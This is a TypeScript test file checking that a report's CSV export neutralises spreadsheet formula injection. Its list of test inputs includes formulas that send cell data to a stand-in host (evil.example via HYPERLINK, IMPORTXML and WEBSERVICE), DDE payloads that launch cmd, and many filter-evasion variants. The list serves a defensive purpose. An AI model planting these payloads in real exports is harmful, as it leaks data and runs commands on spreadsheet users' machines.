import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { csvText } from '../../src/report/csv.ts'
import { reportColumns, reportCsv } from '../../src/report/report-csv.ts'
import { hostileFacts } from './html/hostile-facts.ts'

/** What a spreadsheet would work out, fetch or run. */
const FORMULAS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"See why")',
  "=cmd|'/C calc'!A0",
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  "+cmd|'/C calc'!A0",
  '-1+1',
  "-2+3+cmd|'/C calc'!A0",
  '@SUM(1+1)*cmd|\'/C calc\'!A0',
  '@A1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '  +1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"=1+1',
  '""=1+1',
  '"\t=1+1',
  "'=1+1",
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'x;=1+1',
  'x; =1+1',
  'x;"=1+1',
  'x\t=1+1',
  'x\n=1+1',
  'x\r+1',
  'x",=1+1,"',
  '",=1+1,"',
  '=',
  '-',
] // biome-ignore format: a list

const mayBegin = /^[\s\u200b\ufeff"]*[=+\-@\t\r＝＋－＠]/u

for (const text of FORMULAS) {
  test(`${JSON.stringify(text)} is no formula in any program`, () => {
    const line = csvText([[text, 'end']])
    const [cells = []] = parse(line) as string[][]
    assert.equal(cells.length, 2, 'it left its cell')
    assert.equal(cells[1], 'end')
    assert.doesNotMatch(cells[0] ?? '', mayBegin)
    assert.equal(
      (cells[0] ?? '').replaceAll("'", ''),
      text.replaceAll("'", ''),
      'more than an apostrophe was added',
    )
    // Programs of some countries divide lines at semicolons, and read quotes only at the start of what they divide.
    for (const part of line.split(/[;\r\n]/).slice(1)) assert.doesNotMatch(part, mayBegin)
  })
}

test('a table is read back as it was written, by RFC 4180', () => {
  const text = fc
    .string({ unit: 'grapheme' })
    .filter((one) => !/(?:^|[;\t\r\n])[\s\u200b-\u200f\ufeff"']*[=+\-@\t\r＝＋－＠]/.test(one))
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 }), { minLength: 1 }), (rows) => {
      assert.deepEqual(parse(csvText(rows), { relax_column_count: true, record_delimiter: '\r\n' }), rows)
    }),
  )
})

test('lines end in CRLF, quotes are doubled, numbers stay numbers and null is nothing', () => {
  assert.equal(csvText([['a "b", c', -5, null, 'd']]), '"a ""b"", c",-5,,d\r\n')
})

test('a report has a line for each intruder and one for an incident without any', () => {
  const facts = hostileFacts(['=1+1', '@x'])
  const [first] = facts.incidents
  assert.ok(first !== undefined)
  const alone = { ...first, incident: { ...first.incident, intruders: [] } }
  const rows = parse(reportCsv({ incidents: [...facts.incidents, alone] })) as string[][]
  assert.equal(rows.length, 1 + 4 * 3 + 1)
  for (const row of rows) assert.equal(row.length, reportColumns.length)
  for (const row of rows.slice(1)) for (const cell of row) assert.doesNotMatch(cell, mayBegin)
})
